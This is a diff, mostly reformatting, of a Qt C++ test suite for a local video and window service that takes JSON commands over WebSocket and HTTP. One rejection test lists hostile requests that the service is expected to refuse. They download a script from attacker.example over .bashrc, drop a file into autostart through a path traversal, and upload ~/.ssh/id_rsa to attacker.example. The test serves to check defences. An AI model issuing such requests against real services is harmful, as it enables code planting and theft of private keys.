@@ -27,8 +27,12 @@ namespace {
 constexpr int kWaitMs = 10000;
 const QByteArray kHttpUuid = "http-page";
 
-QJsonObject json(const QByteArray& baText) { return QJsonDocument::fromJson(baText).object(); }
-QString indented(const QByteArray& baJson) { return QString::fromUtf8(QJsonDocument(json(baJson)).toJson()); }
+QJsonObject json(const QByteArray& baText) {
+    return QJsonDocument::fromJson(baText).object();
+}
+QString indented(const QByteArray& baJson) {
+    return QString::fromUtf8(QJsonDocument(json(baJson)).toJson());
+}
 
 QByteArray createWnd(const QString& strUuid) {
     return QStringLiteral(R"({"cmd":"window.createWnd","uuid":"%1","sequence":"1",)"
@@ -73,7 +77,9 @@ private:
                     QStringLiteral("test hook: vc-event %1 %2").arg(iType).arg(strUuid));
     }
 
-    QByteArray httpAnswer(const QByteArray& baBody) { return HttpTestClient::answer(m_port, HttpTestClient::post(baBody)); }
+    QByteArray httpAnswer(const QByteArray& baBody) {
+        return HttpTestClient::answer(m_port, HttpTestClient::post(baBody));
+    }
     // "shown", "hidden" or "none": the window registered under strUuid.
     QString windowState(const QString& strUuid) {
         return m_pService->ask("window " + strUuid.toUtf8(), QStringLiteral("test hook: window %1 ").arg(strUuid));
@@ -211,7 +217,8 @@ private slots:
         }
         if (!scripted.isEmpty()) QVERIFY(scriptResult(baFunction, "{}"));
 
-        QCOMPARE(strAnswer, expected.isEmpty() ? QString() : indented(QString::fromUtf8(expected).arg(strUuid).toUtf8()));
+        QCOMPARE(strAnswer,
+                 expected.isEmpty() ? QString() : indented(QString::fromUtf8(expected).arg(strUuid).toUtf8()));
     }
 
     // Each event reaches only the page that owns the window the library
@@ -240,7 +247,8 @@ private slots:
         QCOMPARE(event.value("uuid").toString(), strSecond);
         QCOMPARE(event.value("errorCode").toInt(), iErrorCode);
         QCOMPARE(drain(*m_pFirst), QStringList());
-        const QJsonObject polled = json(httpAnswer(QJsonDocument({{"cmd", "system.get"}, {"uuid", QString(kHttpUuid)}}).toJson()));
+        const QJsonObject polled =
+            json(httpAnswer(QJsonDocument({{"cmd", "system.get"}, {"uuid", QString(kHttpUuid)}}).toJson()));
         QCOMPARE(polled.value("cmd").toString(), cmd);
         QCOMPARE(polled.value("uuid").toString(), QString::fromUtf8(kHttpUuid));
     }
@@ -252,16 +260,18 @@ private slots:
     void everyCommand() {
         QList<QByteArray> listFunctions;
 #define LIST_FUNCTION(name) listFunctions << #name;
-        VC_WIDGET_REQUEST_FUNCTIONS(LIST_FUNCTION) VC_WIDGET_FUNCTIONS(LIST_FUNCTION)
+        VC_WIDGET_REQUEST_FUNCTIONS(LIST_FUNCTION)
+        VC_WIDGET_FUNCTIONS(LIST_FUNCTION)
         VC_REQUEST_FUNCTIONS(LIST_FUNCTION) VC_NO_ARGUMENT_FUNCTIONS(LIST_FUNCTION) LIST_FUNCTION(VC_OpenFileBrowser)
 #undef LIST_FUNCTION
-        // All lines at once; the last acknowledgement follows the others.
-        const auto scriptAll = [&](const std::function<QByteArray(const QByteArray&)>& fnResult) {
-            QByteArray baLines;
-            for (const QByteArray& baFunction : listFunctions) baLines += "vc-result " + baFunction + " " + fnResult(baFunction) + "\n";
-            baLines.chop(1);
-            return hook(baLines, "test hook: vc-result " + listFunctions.last());
-        };
+            // All lines at once; the last acknowledgement follows the others.
+            const auto scriptAll = [&](const std::function<QByteArray(const QByteArray&)>& fnResult) {
+                QByteArray baLines;
+                for (const QByteArray& baFunction : listFunctions)
+                    baLines += "vc-result " + baFunction + " " + fnResult(baFunction) + "\n";
+                baLines.chop(1);
+                return hook(baLines, "test hook: vc-result " + listFunctions.last());
+            };
         QVERIFY(scriptAll([](const QByteArray& baFunction) { return "{\"fn\":\"" + baFunction + "\"}"; }));
 
         // Answers come in the order of the requests: all requests at once.
@@ -269,8 +279,10 @@ private slots:
         QStringList listAnswers[2];  // with a window, without one
         for (PageSocket* pPage : {m_pFirst.get(), m_pWindowless.get()}) {
             for (auto it = video::videoCommandsBegin(); it != video::videoCommandsEnd(); ++it) {
-                const QJsonObject request{{"cmd", "video." + QLatin1String(it->szName)}, {"uuid", pPage->uuid()},
-                                          {"sequence", it->szName}, {"full", false}};
+                const QJsonObject request{{"cmd", "video." + QLatin1String(it->szName)},
+                                          {"uuid", pPage->uuid()},
+                                          {"sequence", it->szName},
+                                          {"full", false}};
                 pPage->send(QJsonDocument(request).toJson());
             }
             listAnswers[pPage == m_pWindowless.get()] = drain(*pPage);
@@ -307,15 +319,21 @@ private slots:
         QTest::addColumn<QString>("request");
         QTest::addColumn<int>("iErrorCode");
         const QString strCommand = QStringLiteral(R"({"uuid":"%1","sequence":"a",)");
-        QTest::newRow("download over .bashrc")
-            << strCommand + "\"cmd\":\"video.downloadFile\",\"url\":\"http://attacker.example/x.sh\",\"path\":\"%2/home/.bashrc\"}" << 3024;
+        QTest::newRow("download over .bashrc") << strCommand +
+                                                      "\"cmd\":\"video.downloadFile\",\"url\":\"http://"
+                                                      "attacker.example/x.sh\",\"path\":\"%2/home/.bashrc\"}"
+                                               << 3024;
         QTest::newRow("download into autostart")
-            << strCommand + "\"cmd\":\"video.downloadFile\",\"url\":\"http://attacker.example/x\",\"path\":\"../../home/.config/autostart/x.desktop\"}"
+            << strCommand +
+                   "\"cmd\":\"video.downloadFile\",\"url\":\"http://attacker.example/x\",\"path\":\"../../home/.config/"
+                   "autostart/x.desktop\"}"
             << 3024;
-        QTest::newRow("upload the ssh key")
-            << strCommand + "\"cmd\":\"video.uploadFile\",\"url\":\"http://attacker.example/up\",\"path\":\"%2/home/.ssh/id_rsa\"}" << 3024;
-        QTest::newRow("record anywhere")
-            << strCommand + R"("cmd":"video.startSave","path":"%2/outside/new/x.mp4"})" << 3024;
+        QTest::newRow("upload the ssh key") << strCommand +
+                                                   "\"cmd\":\"video.uploadFile\",\"url\":\"http://attacker.example/"
+                                                   "up\",\"path\":\"%2/home/.ssh/id_rsa\"}"
+                                            << 3024;
+        QTest::newRow("record anywhere") << strCommand + R"("cmd":"video.startSave","path":"%2/outside/new/x.mp4"})"
+                                         << 3024;
         QTest::newRow("settings make folders anywhere")
             << strCommand + R"("cmd":"video.setLocalConfig","recordPath":"%2/outside/new"})" << 3024;
         QTest::newRow("play a file that exists")
@@ -344,7 +362,8 @@ private slots:
         QVERIFY(!config.contains("configFile"));
 
         const QJsonObject started = answerOfFirst(
-            "{\"cmd\":\"video.startAsyncDownload\",\"uuid\":\"%1\",\"sequence\":\"d\",\"url\":\"http://192.0.2.1/x.mp4\"}");
+            "{\"cmd\":\"video.startAsyncDownload\",\"uuid\":\"%1\",\"sequence\":\"d\",\"url\":\"http://192.0.2.1/"
+            "x.mp4\"}");
         QCOMPARE(started.value("downloadId").toInt(), 1);
         for (const char* szCommand : {"getDownloadStatus", "stopAsyncDownload"}) {
             m_pSecond->send(QStringLiteral(R"({"cmd":"video.%1","uuid":"%2","sequence":"e","downloadId":1})")
@@ -354,7 +373,8 @@ private slots:
             QCOMPARE(listReceived.size(), 1);
             QCOMPARE(json(listReceived[0].toUtf8()).value("errorCode").toInt(), 3020);
         }
-        const QJsonObject status = answerOfFirst(R"({"cmd":"video.getDownloadStatus","uuid":"%1","sequence":"f","downloadId":1})");
+        const QJsonObject status =
+            answerOfFirst(R"({"cmd":"video.getDownloadStatus","uuid":"%1","sequence":"f","downloadId":1})");
         QCOMPARE(status.value("downloadId").toInt(), 1);  // its own
         answerOfFirst(R"({"cmd":"video.stopAsyncDownload","uuid":"%1","sequence":"g","downloadId":1})");
     }
@@ -367,9 +387,9 @@ private slots:
             << QByteArray(R"({"cmd":"window.createWnd","uuid":"W","sequence":"1","className":"Chrome",)"
                           R"("rect":{"left":10,"top":20,"width":320,"height":240}})")
             << windowResponse("W", "1", 5001);
-        const char* const aszCommands[] = {"showWnd", "hideWnd", "setWndGeometry", "setWndZOrder", "setWndCover",
-                                           "updateParentWnd", "cuttingPartWindow", "repairPartWindow",
-                                           "setWindowSelected"};
+        const char* const aszCommands[] = {"showWnd",           "hideWnd",          "setWndGeometry",
+                                           "setWndZOrder",      "setWndCover",      "updateParentWnd",
+                                           "cuttingPartWindow", "repairPartWindow", "setWindowSelected"};
         for (const char* szCommand : aszCommands) {
             for (const char* szUuid : {"W", "N"}) {
                 QTest::addRow("%s %s", szCommand, szUuid)
@@ -380,8 +400,11 @@ private slots:
                     << windowResponse(szUuid, "s");
             }
         }
-        QTest::newRow("version") << QByteArray(R"({"cmd":"window.getLocalServiceVersion","uuid":"N","sequence":"7"})")
-                                 << QString(R"({"errorCode":0,"errorModule":0,"localServiceVersion":"%1","sequence":"7","uuid":"N"})").arg(LOCALSERVICE_VERSION).toUtf8();
+        QTest::newRow("version")
+            << QByteArray(R"({"cmd":"window.getLocalServiceVersion","uuid":"N","sequence":"7"})")
+            << QString(R"({"errorCode":0,"errorModule":0,"localServiceVersion":"%1","sequence":"7","uuid":"N"})")
+                   .arg(LOCALSERVICE_VERSION)
+                   .toUtf8();
         QTest::newRow("number sequence") << QByteArray(R"({"cmd":"window.showWnd","uuid":"W","sequence":3})")
                                          << windowResponse("W", "");
         QTest::newRow("parentWnd 0") << QByteArray(R"({"cmd":"window.createWnd","uuid":"P0","parentWnd":"0"})")
@@ -391,8 +414,8 @@ private slots:
             << windowResponse("Pabc", "2", 5001);
         QTest::newRow("destroyWnd none") << QByteArray(R"({"cmd":"window.destroyWnd","uuid":"N","sequence":"d"})")
                                          << windowResponse("N", "d");
-        QTest::newRow("third field ignored") << QByteArray(R"({"cmd":"window.hideWnd.extra","uuid":"W","sequence":"x"})")
-                                             << windowResponse("W", "x");
+        QTest::newRow("third field ignored")
+            << QByteArray(R"({"cmd":"window.hideWnd.extra","uuid":"W","sequence":"x"})") << windowResponse("W", "x");
     }
     void everyWindowCommandAnswers() {
         QFETCH(QByteArray, request);
@@ -411,7 +434,9 @@ private slots:
     void clientGoneDuringTheDialog() {
         QFETCH(bool, bWebSocket);
         const QString strRequest = R"({"cmd":"video.browseFilePath","uuid":"%1","sequence":"d","mode":"open"})";
-        const auto answerDialog = [this] { return m_pService->ask("vc-dialog /tmp/chosen.mp4", "test hook: vc-dialog "); };
+        const auto answerDialog = [this] {
+            return m_pService->ask("vc-dialog /tmp/chosen.mp4", "test hook: vc-dialog ");
+        };
         auto pPage = std::make_unique<PageSocket>(m_port);
         std::unique_ptr<HttpTestClient> pHttp;
         if (bWebSocket) {
@@ -420,7 +445,8 @@ private slots:
         } else {
             pHttp = std::make_unique<HttpTestClient>(m_port, HttpTestClient::post(strRequest.arg("G").toUtf8()));
         }
-        QVERIFY(QTest::qWaitFor([&] { return m_pService->ask("vc-dialog", "test hook: vc-dialog ") == QLatin1String("open"); }, kWaitMs));
+        QVERIFY(QTest::qWaitFor(
+            [&] { return m_pService->ask("vc-dialog", "test hook: vc-dialog ") == QLatin1String("open"); }, kWaitMs));
         // One dialog at a time: another page is refused while it is open.
         QCOMPARE(json(HttpTestClient::answer(m_port, HttpTestClient::post(strRequest.arg("B").toUtf8())))
                      .value("errorCode")
